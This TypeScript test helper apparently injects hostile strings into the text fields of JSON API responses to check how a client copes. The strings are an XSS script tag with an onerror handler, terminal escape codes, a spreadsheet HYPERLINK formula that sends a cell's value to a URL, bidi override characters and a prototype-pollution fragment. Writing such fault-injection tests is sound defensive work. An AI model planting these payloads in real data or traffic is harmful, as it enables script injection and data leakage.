import { resources } from '../../catalog/index.js'
import type { HostileForm } from './fault.js'

/** What a text begins with instead of the harmless thing it was. All of it is well known, and none of it does anything by itself. */
const TEXTS: Readonly<Record<Exclude<HostileForm, 'proto'>, string>> = {
  script: '<script>alert(1)</script><img src=x onerror=alert(1)>',
  // Clears the screen, names the window, and writes in red.
  ansi: '\u001b[2J\u001b]0;owned\u0007\u001b[31m',
  formula: '=HYPERLINK("http://127.0.0.1:1/?leak="&A1,"click")',
  // Right-to-left override: what follows is shown backwards.
  bidi: '\u202e\u2066',
}
export const HOSTILE_FORMS: readonly HostileForm[] = ['script', 'ansi', 'formula', 'bidi', 'proto']

const PROTO = '"__proto__":{"isAdmin":true},"constructor":{"prototype":{"isAdmin":true}},'

// What people type. Kinds that the API itself gives out, such as types and addresses of the web application, stay.
const TYPED: ReadonlySet<string> = new Set(
  resources.flatMap(({ attributes }) =>
    Object.values(attributes)
      .filter(
        ({ kind, enum: values, wire }) => (kind === 'text' || kind === 'html') && values === undefined && !/(url|src|type|ext)$/.test(wire),
      )
      .map(({ wire }) => wire),
  ),
)
// A string inside of JSON holds no bare quote, so this matches names and their values and nothing inside of a text.
const PAIR = /"([\w-]+)":"((?:[^"\\]|\\.)*)"/g

/** The document with hostile texts in it, form by form in turn: the same for the same document. */
export const withHostileContent = (body: string, forms: readonly HostileForm[] = HOSTILE_FORMS): string => {
  const prefixes = forms.flatMap((form) => (form === 'proto' ? [] : [JSON.stringify(TEXTS[form]).slice(1, -1)]))
  let at = 0
  const spoiled =
    prefixes.length === 0
      ? body
      : body.replace(PAIR, (pair, name: string, value: string) =>
          TYPED.has(name) ? `"${name}":"${prefixes[at++ % prefixes.length]!}${value}"` : pair,
        )
  return forms.includes('proto') ? spoiled.replaceAll('"attributes":{', `"attributes":{${PROTO}`) : spoiled
}
